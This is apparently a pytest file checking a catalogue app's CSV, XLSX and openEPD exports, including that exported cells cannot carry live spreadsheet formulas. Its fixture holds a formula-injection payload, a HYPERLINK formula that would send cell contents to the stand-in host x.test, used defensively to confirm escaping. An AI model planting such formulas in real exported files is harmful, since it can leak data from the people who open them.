"""Catalogue downloads: search results as CSV and XLSX, a comparison as CSV, openEPD documents."""

import io
import json

import pytest
from openepd.model.epd import Epd
from openpyxl import load_workbook

from catalog import exports
from catalog.search import close_search_indexes, rebuild_index
from tests.catalog.catalogue_data import ITEMS, LATER, Item, make_catalogue
from tests.spreadsheet_check import csv_rows, live_csv_formulas, live_xlsx_formulas

HOSTILE = '=HYPERLINK("http://x.test/?d="&A1,"click")'


@pytest.fixture(autouse=True)
def _close_indexes(app):
    yield
    close_search_indexes(app)


def streamed(response) -> bytes:
    """Return a streamed body, then close the response: the request's teardown runs only then."""
    data = response.get_data()
    response.close()
    return data


@pytest.fixture
def catalogue(app, session):
    evil = Item("evil", "cement", HOSTILE, "@SUM(1+1)", "t", 650.0, (1, "valid", LATER))
    catalogue = make_catalogue(session, [*ITEMS, evil])
    rebuild_index(app.config["SEARCH_INDEX_DIR"], session=session)
    return catalogue


def test_search_csv_keeps_filters_and_order_and_no_formula(client, catalogue):
    response = client.get("/catalog/search.csv?category=cement&sort=gwp&page=2")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    data = streamed(response)
    rows = csv_rows(data)
    assert rows[0] == list(exports.PRODUCT_HEADER)
    ids = [int(r[0]) for r in rows[1:]]
    # Valid certificates only (the page's default), lowest GWP first, from the first result.
    assert ids == [catalogue.id("cem640"), catalogue.id("evil"), catalogue.id("cem700")]
    assert response.headers["X-Total-Count"] == "3"
    assert live_csv_formulas(data) == []
    assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row)


def test_search_xlsx_opens_in_openpyxl_without_formula(client, catalogue):
    response = client.get("/catalog/search.xlsx?uncertified=1&sort=gwp")
    assert response.status_code == 200
    data = response.get_data()
    assert live_xlsx_formulas(data) == []
    sheet = load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == exports.PRODUCT_HEADER
    assert len(rows) - 1 == 11  # every published product (the draft is not)
    assert isinstance(rows[1][10], float)  # GWP stays a number


def test_search_download_stops_at_the_limit(client, catalogue, monkeypatch):
    monkeypatch.setattr(exports, "EXPORT_LIMIT", 2)
    rows = csv_rows(streamed(client.get("/catalog/search.csv?uncertified=1")))
    assert len(rows) == 3
    page = client.get("/catalog?uncertified=1").get_data(as_text=True)
    assert 'data-testid="download-csv"' in page and "at most" in page


def test_comparison_csv(client, catalogue):
    ids = f"{catalogue.id('cem640')},{catalogue.id('evil')}"
    response = client.get(f"/catalog/compare.csv?ids={ids}")
    data = response.get_data()
    rows = {r[0]: r[1:] for r in csv_rows(data)}
    assert rows["field"] == [str(catalogue.id("cem640")), str(catalogue.id("evil"))]
    assert rows["gwp_a1a3 (kgCO2e/t)"] == ["640.0", "650.0"]
    assert live_csv_formulas(data) == []
    page = client.get(f"/catalog/compare?ids={ids}").get_data(as_text=True)
    assert 'data-testid="compare-chart"' in page and "mark-target" in page
    assert 'data-testid="compare-csv"' in page


def test_openepd_document_of_a_published_product_validates(client, catalogue, session):
    response = client.get(f"/catalog/products/{catalogue.id('cem700')}.openepd.json")
    assert response.status_code == 200
    document = json.loads(response.get_data())
    epd = Epd.model_validate(document)
    assert epd.product_name == "P.O 52.5 ordinary Portland cement"
    (impact,) = document["impacts"].values()
    assert impact["gwp"]["A1A2A3"]["mean"] == 700.0
    draft = catalogue.id("cemdraft")
    assert client.get(f"/catalog/products/{draft}.openepd.json").status_code == 404
    assert client.get("/catalog/products/999999.openepd.json").status_code == 404
